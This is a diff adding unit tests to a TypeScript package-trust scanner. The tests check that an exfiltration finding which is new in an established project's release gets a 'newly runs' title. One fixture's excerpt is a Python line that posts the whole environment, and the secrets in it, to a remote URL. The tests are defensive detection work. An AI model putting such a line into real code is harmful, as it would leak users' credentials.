@@ -8,6 +8,7 @@ import { AUTO_SCAN_MAX_BYTES } from '../../../../../utils/sources/files';
 import { judge } from '../../../../../utils/trust';
 import { installCode } from '../../../../../utils/trust/rules/install-code';
 import { inputFor, ok } from '../facts';
+import { syntheticHistory } from '../../../../support/release-facts';
 import {
   INSTALL_HOOK_SETUP_PY,
   ENV_EXFIL_INIT_PY,
@@ -35,6 +36,56 @@ function facts(findings: CodeFinding[], overrides: Partial<CodeFacts> = {}): Cod
 }
 
 const inputWith = (code: CodeFacts) => ({ ...inputFor('synthetic-stealer', '1.0.0', '1.0.0', {}), code: ok(code) });
+
+describe('install-code rule: new in this release', () => {
+  const established = {
+    ...inputFor('synthetic-stealer', '1.0.0', '1.0.0', {}),
+    releases: ok(
+      syntheticHistory(
+        'synthetic-stealer',
+        Array.from({ length: 12 }, (_, i) => ({
+          version: `0.${i}`,
+          uploadedAt: new Date(Date.parse('2024-01-01T00:00:00Z') + i * 60 * 86_400_000).toISOString(),
+          fileCount: 1,
+          yanked: false,
+          yankedReason: null,
+          isPrerelease: false,
+        })),
+        '0.11',
+      ),
+    ),
+  };
+  const danger = (newInRelease: boolean): CodeFinding => ({
+    check: 'exfiltration',
+    level: 'danger',
+    filename: 'x.whl',
+    path: 'pkg/__init__.py',
+    line: 2,
+    excerpt: 'requests.post(U, json=dict(os.environ))',
+    detail: 'Sends the environment.',
+    url: null,
+    runs: 'import',
+    newInRelease,
+  });
+  const compared = { comparedWith: { version: '0.10', state: 'compared' as const, reason: null } };
+
+  it("danger new in an established project's release: 'this release newly runs …, which the previous release did not'", () => {
+    const [f] = installCode.evaluate({ ...established, code: ok(facts([danger(true)], compared)) }, ctx);
+    expect(f!.title).toBe(
+      'This release newly runs code that sends secrets or talks to a drop host, which the previous release (0.10) did not',
+    );
+    expect(f!.detail).toMatch(/^New in this release: /);
+  });
+
+  it('the same danger already in the previous release, or a young project: the usual title', () => {
+    expect(installCode.evaluate({ ...established, code: ok(facts([danger(false)], compared)) }, ctx)[0]!.title).toBe(
+      'The code sends secrets or talks to a drop host',
+    );
+    expect(installCode.evaluate(inputWith(facts([danger(true)], compared)), ctx)[0]!.title).toBe(
+      'The code sends secrets or talks to a drop host',
+    );
+  });
+});
 
 describe('install-code rule', () => {
   it('import-time findings are judged too, titled by when they run; import-time network use alone is no finding', async () => {
